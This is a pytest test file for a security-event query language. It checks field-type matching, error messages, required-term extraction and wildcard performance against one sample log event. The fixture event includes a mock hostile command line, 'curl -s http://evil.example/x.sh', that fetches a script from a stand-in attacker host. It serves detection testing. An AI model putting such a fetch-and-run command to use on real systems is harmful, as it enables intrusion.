"""What a query means for one document, by the type of the field; what cannot be asked is said."""

from __future__ import annotations

from typing import Any

import pytest

from contract.errors import QueryError
from contract.timestamps import from_iso
from runtime.query.literals import required
from runtime.query.request import request

NOW = from_iso("2026-06-15T12:00:00Z")
DOCUMENT: dict[str, Any] = {
    "@timestamp": "2026-06-15T11:30:00.123456Z",
    "message": "Failed password for root from 203.0.113.7 port 4711",
    "source.ip": "203.0.113.7",
    "host.ip": ["10.0.0.1", "2001:db8::1"],
    "user.name": ["root", "Web Admin"],
    "process.command_line": "curl -s http://evil.example/x.sh",
    "event.severity": 5,
    "event.risk_score": 0.1,
    "process.parent.interactive": True,
    "winlog.event_data.LogonType": 3,
    "dns.answers": [{"name": "a.example", "ttl": 60}, {"name": "b.example"}],
    "my.number": 17,
    "my.text": "Seventeen",
    "user.full_name": "x" * 2_000,
    "opsonin.entity": ["ip:203.0.113.7"],
}

HOLD = [
    "", "*", "source.ip: 203.0.113.7", "source.ip: 203.0.113.0/24", 'source.ip: "203.0.113.7"',
    "source.ip: (1.2.3.4 or 203.0.113.7)", "source.ip >= 203.0.113.7", "host.ip: 10.0.0.0/8", 'host.ip: "2001:db8::/32"',
    "host.ip > 10.0.0.0", "user.name: root", "user.name: Web Admin", "user.name: Web*", "user.name: *Adm*n",
    "not user.name: web*", "process.command_line: *curl*", "process.command_line.text: CURL",
    'process.command_line.text: "evil.example x.sh"', "message: password", 'message: "password for root"',
    "message: fail*", "message: nothing port", "event.severity: 5", "event.severity: 5.0", "event.severity > 4.5", "event.severity <= 5",
    "event.risk_score: 0.1", "event.risk_score < 0.2", "process.parent.interactive: true",
    "winlog.event_data.LogonType: 3", "winlog: 3", "winlog.event_data.LogonType: *", "winlog.event_data.LogonType: 3*",
    "dns.answers.name: b.example", "dns.answers.ttl >= 60", "my.number: 17", "my.number > 3", "my.text: Sev*", "my.text > Se",
    '@timestamp > "2026-06-15" or source.ip: *', '@timestamp: "2026-06-15"', "@timestamp >= 2026-06-15", "@timestamp <= 2026-06",
    "@timestamp > now-1h and @timestamp < now", '@timestamp: "2026-06-15T11:30"', '@timestamp <= "2026-06-15T11:30:00.123Z"',
    "@timestamp > 2025-12", 'message: "port 4711"', 'message: "Failed password"', "event.risk_score > -1e39",
    "203.0.113.7", "*curl*", '"password for"', "root and not admin", "user.name: (root and web*) or user.name: root", "user.full_name.text: *",
]  # fmt: skip
FAIL = [
    "source.ip: 203.0.113.8", "source.ip: 10.0.0.0/8", "user.name: Root", "user.name: web*", "user.name: roo",
    "process.command_line: curl", 'message: "for password"', "message: pass", "event.severity: 6", "event.severity > 5",
    "event.severity: 5.5", "process.parent.interactive: false", "winlog.event_data.LogonType: 33", "winlog.event_data.Other: *", "other.field: *",
    "dns.answers.name: c.example", "my.number > 17", "my.text: sev*", "@timestamp > 2026-06-15", "@timestamp < 2026-06-15",
    "@timestamp <= 2025-12", 'message: "4711 port"', "event.risk_score < -1e39",
    "not source.ip: *", "user.full_name: *", "user.full_name: x*", "203.0.113.8", '@timestamp > "2026-06-15T11:30"',
]  # fmt: skip


@pytest.mark.parametrize("text", HOLD)
def test_a_document_is_found(text: str) -> None:
    assert request(text, "event", NOW).holds(DOCUMENT)


@pytest.mark.parametrize("text", FAIL)
def test_a_document_is_not_found(text: str) -> None:
    assert not request(text, "event", NOW).holds(DOCUMENT)


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("source.ip: abc", "expected one, or a network"),
        ("source.ip: 10.1.*", "name a network"),
        ("source.ip > 10.0.0.0/8", "one address"),
        ("event.severity: high", "expected one, came 'high'"),
        ("event.severity: 5*", "range"),
        ("@timestamp > yesterday", "holds times"),
        ("@timestamp: 2026*", "holds times"),
        ('@timestamp: "2026-13"', "holds times"),
        ("process.parent.interactive: 1", "true or false"),
        ("message > a", "no order"),
        ("event.original: x", "kept and not indexed"),
        ("source: x", "group of fields"),
        ("source.geo.location: x", "geo_point"),
        ("winlog: a*", "many fields"),
        ("my.x > 5 and my.x: a*", "cannot be a number"),
    ],
)
def test_what_a_type_cannot_answer_is_said(text: str, says: str) -> None:
    with pytest.raises(QueryError, match=says):
        request(text, "event", NOW)


@pytest.mark.parametrize(
    ("text", "clauses"),
    [
        ("user.name: root", ((b"root",),)),
        ("user.name: root and source.ip: 1.2.3.4", ((b"root",), (b"1.2.3.4",))),
        ("user.name: (root or admin)", ((b"root", b"admin"),)),
        ("user.name: root or message: x", ()),
        ("not user.name: root", ()),
        ("message: root", ()),
        ("source.ip: 10.0.0.0/8", ()),
        ("user.name: a*b", ((b"a",), (b"b",))),
        (r'user.name: "a\"b"', ()),
        ("event.severity: 5", ()),
        ("203.0.113.7", ((b"203.0.113.7",),)),
        ("word", ()),
    ],
)
def test_required_texts_are_those_that_must_stand_in_the_document(
    text: str, clauses: object
) -> None:
    asked = request(text, "event", NOW)
    assert required(asked.query, asked.fields) == clauses


def test_many_wildcards_take_no_exponential_time() -> None:
    asked = request("user.name: " + "*a" * 200 + "b", "event", NOW)
    assert not asked.holds({"user.name": "a" * 1_000})
